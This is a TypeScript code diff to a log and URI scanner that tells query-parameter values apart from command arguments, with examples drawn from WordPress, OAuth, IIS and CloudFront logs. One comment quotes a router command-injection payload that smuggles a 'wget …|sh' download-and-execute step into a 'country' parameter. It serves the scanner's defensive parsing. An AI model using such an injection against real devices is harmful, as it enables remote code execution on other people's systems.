@@ -15,14 +15,18 @@ const MAX_NAME = 64;
 /**
  * The URI's scheme at buf[s] is a query pair's value: "?name=" or "&name=" right before it
  * (`GET /wp-login.php?redirect_to=https://blog.example/wp-admin/&reauth=1`,
- * `/authorize?client_id=web&redirect_uri=https://app.example/cb&scope=openid`). Looks back
- * at most MAX_NAME bytes, not before lo.
+ * `/authorize?client_id=web&redirect_uri=https://app.example/cb&scope=openid`), or the first
+ * pair of a query logged without its "?", after a blank (an IIS log's cs-uri-query field,
+ * `GET /login.aspx ReturnUrl=https://intranet.example.com/hr/&lang=en 443`). Looks back at
+ * most MAX_NAME bytes, not before lo.
  */
 export function queryValueAt(buf: Uint8Array, s: number, lo: number): boolean {
   if (s - 3 < lo || buf[s - 1] !== 0x3d) return false;
   let k = s - 1; // where the name starts
   while (k > lo && s - 1 - k < MAX_NAME && NAME[buf[k - 1]!] === 1) k--;
-  return k < s - 1 && k > lo && (buf[k - 1] === 0x3f || buf[k - 1] === 0x26);
+  if (!(k < s - 1 && k > lo)) return false;
+  const b = buf[k - 1];
+  return b === 0x3f || b === 0x26 || b === 0x20 || b === 0x09;
 }
 
 /** a pair's name: letters, digits and these (WordPress's "redirect_to", "return-url", "u.x", "a[]") */
@@ -60,17 +64,22 @@ export function commandArgumentAt(buf: Uint8Array, s: number, lo: number): boole
   else if (s - 4 >= lo && buf[s - 3] === 0x25 && buf[s - 2] === 0x32 && buf[s - 1] === 0x30)
     w = s - 4;
   else return false;
-  if (!(CLASS[buf[w]!]! & C_ALPHA)) return false;
+  const word = (CLASS[buf[w]!]! & C_ALPHA) !== 0;
   // … in a query: a "?" or "=" earlier in the same run of non-blank bytes ("Google+https://…"
   // in prose is no command) — looked for past lo too, in an earlier URI's text
   // (`request_uri=http://h/luci/;stok=/locale?country=$(id>\`wget+http://192.0.2.9/t+-O-|sh\`)`):
-  // the scanner keeps more than MAX_QUERY_BEFORE bytes before a trigger
-  for (let k = w - 1; k >= 0 && w - k <= MAX_QUERY_BEFORE; k--) {
+  // the scanner keeps more than MAX_QUERY_BEFORE bytes before a trigger. Or in a text whose
+  // blanks are all encoded, two of them at least with the glue: a web log's User-Agent field
+  // (IIS's "Mozilla/5.0+(compatible;+MSIE+7.0++http://www.europarchive.org)", "woriobot++
+  // http://worio.com"; CloudFront's "…;%20Lyonl/1.0;%20https://lyonl.com/crawler;%20crawler@…")
+  let spaces = 1;
+  for (let k = w; k >= 0 && w - k <= MAX_QUERY_BEFORE; k--) {
     const b = buf[k]!;
-    if (b === 0x3f || b === 0x3d) return true;
-    if (b <= 0x20) return false;
+    if (word && (b === 0x3f || b === 0x3d)) return true;
+    if (b <= 0x20) break;
+    if (b === 0x2b || (b === 0x25 && buf[k + 1] === 0x32 && buf[k + 2] === 0x30)) spaces++;
   }
-  return false;
+  return spaces >= 2;
 }
 
 /** how far back the query's "?" or "=" before a command's argument is looked for */
